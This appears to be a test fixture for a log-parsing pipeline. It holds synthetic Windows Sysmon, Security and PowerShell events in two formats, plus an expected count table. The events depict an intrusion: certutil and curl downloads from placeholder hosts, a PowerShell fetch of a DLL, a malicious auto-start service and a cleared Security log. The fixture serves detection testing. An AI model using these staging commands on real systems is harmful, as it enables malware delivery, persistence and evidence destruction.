{"EventTime":"2026-11-24 08:00:03","Hostname":"ws5.corp.example","Keywords":"0x8000000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":3,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":3,"OpcodeValue":0,"RecordNumber":74176,"ProcessID":3308,"ThreadID":4008,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Message":"See the fields.","Opcode":"Info","RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":"50123","DestinationIsIpv6":"false","DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":"80","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:04","Hostname":"ws5.corp.example","Keywords":"0x8000000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":11,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":11,"OpcodeValue":0,"RecordNumber":74177,"ProcessID":3308,"ThreadID":4008,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Message":"See the fields.","Opcode":"Info","RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:05","Hostname":"ws5.corp.example","Keywords":"0x8020000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","Version":2,"Task":13312,"OpcodeValue":0,"RecordNumber":74178,"ProcessID":3308,"ThreadID":4008,"Channel":"Security","Message":"See the fields.","Opcode":"Info","SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:06","Hostname":"ws5.corp.example","Keywords":"0x8020000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":4624,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","Version":2,"Task":12544,"OpcodeValue":0,"RecordNumber":74179,"ProcessID":3308,"ThreadID":4008,"Channel":"Security","Message":"See the fields.","Opcode":"Info","SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"{00000000-0000-0000-0000-000000000000}","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":"128","ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:07","Hostname":"ws5.corp.example","Keywords":"0x0","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":4104,"SourceName":"Microsoft-Windows-PowerShell","ProviderGuid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","Version":1,"Task":2,"OpcodeValue":0,"RecordNumber":74180,"ProcessID":3308,"ThreadID":4008,"Channel":"Microsoft-Windows-PowerShell/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-21-1004336348-1177238915-682003330-1107","AccountType":"User","Message":"See the fields.","Opcode":"Info","MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:08","Hostname":"ws5.corp.example","Keywords":"0x8080000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":7045,"SourceName":"Service Control Manager","ProviderGuid":"{555908D1-A6D7-4695-8E1E-26931D2012F4}","Version":0,"Task":0,"OpcodeValue":0,"RecordNumber":74181,"ProcessID":3308,"ThreadID":4008,"Channel":"System","Domain":"NT AUTHORITY","AccountName":"LocalSystem","UserID":"S-1-5-21-1004336348-1177238915-682003330-1107","AccountType":"User","Message":"See the fields.","Opcode":"Info","ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:09","Hostname":"ws5.corp.example","Keywords":"0x4020000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":1102,"SourceName":"Microsoft-Windows-Eventlog","ProviderGuid":"{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}","Version":0,"Task":104,"OpcodeValue":0,"RecordNumber":74182,"ProcessID":3308,"ThreadID":4008,"Channel":"Security","Message":"See the fields.","Opcode":"Info","SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
--- input shape/ecs=ecs-events.ndjson
{"@timestamp":"2026-11-24T08:00:01.000Z","event":{"code":1,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:01.900Z","module":"sysmon"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74174,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":1,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","OriginalFileName":"CertUtil.exe","LogonGuid":"{5AA13A44-0C90-68FC-0002-000000004002}","LogonId":"0x3e7a1","TerminalSessionId":"1","IntegrityLevel":"Medium","ParentProcessId":"4100","ParentUser":"CORP\\amara"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"},"user":{"domain":"CORP","name":"amara"},"process":{"name":"certutil.exe","hash":{"md5":"5d41402abc4b2a76b9719d911017c592","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},"executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","entity_id":"{5AA13A44-0C90-68FC-0001-000000004002}","pid":5320,"working_directory":"C:\\Users\\amara\\","parent":{"name":"cmd.exe","executable":"C:\\Windows\\System32\\cmd.exe","command_line":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","entity_id":"{5AA13A44-0C90-68FC-0003-000000004002}"}}}
{"@timestamp":"2026-11-24T08:00:02.000Z","event":{"code":22,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:02.900Z","module":"sysmon"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74175,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":22,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"},"user":{"domain":"CORP","name":"amara"},"process":{"name":"certutil.exe","executable":"C:\\Windows\\System32\\certutil.exe","entity_id":"{5AA13A44-0C90-68FC-0001-000000004002}","pid":5320},"dns":{"question":{"name":"files.cdn-stage.example"}}}
{"@timestamp":"2026-11-24T08:00:03.000Z","event":{"code":3,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:03.900Z","module":"sysmon"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74176,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":3,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","Initiated":"true","SourceIsIpv6":"false","DestinationIsIpv6":"false"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"},"user":{"domain":"CORP","name":"amara"},"process":{"name":"certutil.exe","executable":"C:\\Windows\\System32\\certutil.exe","entity_id":"{5AA13A44-0C90-68FC-0001-000000004002}","pid":5320},"source":{"ip":"192.0.2.5","port":"50123","domain":"ws5.corp.example"},"destination":{"ip":"203.0.113.20","port":"80","domain":"files.cdn-stage.example"},"network":{"transport":"tcp"}}
{"@timestamp":"2026-11-24T08:00:04.000Z","event":{"code":11,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:04.900Z","module":"sysmon"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74177,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":11,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","CreationUtcTime":"2026-11-24 08:00:04.000"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"},"user":{"domain":"CORP","name":"amara"},"process":{"name":"certutil.exe","executable":"C:\\Windows\\System32\\certutil.exe","entity_id":"{5AA13A44-0C90-68FC-0001-000000004002}","pid":5320},"file":{"path":"C:\\Users\\Public\\update & go.exe"}}
{"@timestamp":"2026-11-24T08:00:05.000Z","event":{"code":4688,"kind":"event","provider":"Microsoft-Windows-Security-Auditing","created":"2026-11-24T08:00:05.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_id":74178,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4688,"task":"","opcode":"Info","version":2,"api":"wineventlog","event_data":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:06.000Z","event":{"code":4624,"kind":"event","provider":"Microsoft-Windows-Security-Auditing","created":"2026-11-24T08:00:06.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_id":74179,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4624,"task":"","opcode":"Info","version":2,"api":"wineventlog","event_data":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"{00000000-0000-0000-0000-000000000000}","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":"128","ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:07.000Z","event":{"code":4104,"kind":"event","provider":"Microsoft-Windows-PowerShell","created":"2026-11-24T08:00:07.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","provider_name":"Microsoft-Windows-PowerShell","provider_guid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","record_id":74180,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4104,"task":"","opcode":"Info","version":1,"api":"wineventlog","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:08.000Z","event":{"code":7045,"kind":"event","provider":"Service Control Manager","created":"2026-11-24T08:00:08.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"System","provider_name":"Service Control Manager","provider_guid":"{555908D1-A6D7-4695-8E1E-26931D2012F4}","record_id":74181,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":7045,"task":"","opcode":"Info","version":0,"api":"wineventlog","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:09.000Z","event":{"code":1102,"kind":"event","provider":"Microsoft-Windows-Eventlog","created":"2026-11-24T08:00:09.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Eventlog","provider_guid":"{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}","record_id":74182,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":1102,"task":"","opcode":"Info","version":0,"api":"wineventlog","user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
--- output csv
_sourcecategory,_count
shape/ecs,3
shape/evtx,3
shape/evtx-dump-lines,3
shape/evtx-dump-pretty,3
shape/evtx-dump-separate,3
shape/nxlog,3
shape/winlogbeat-6,3
shape/winlogbeat-7,3
shape/xml-lines,3
shape/xml-wrapped,3
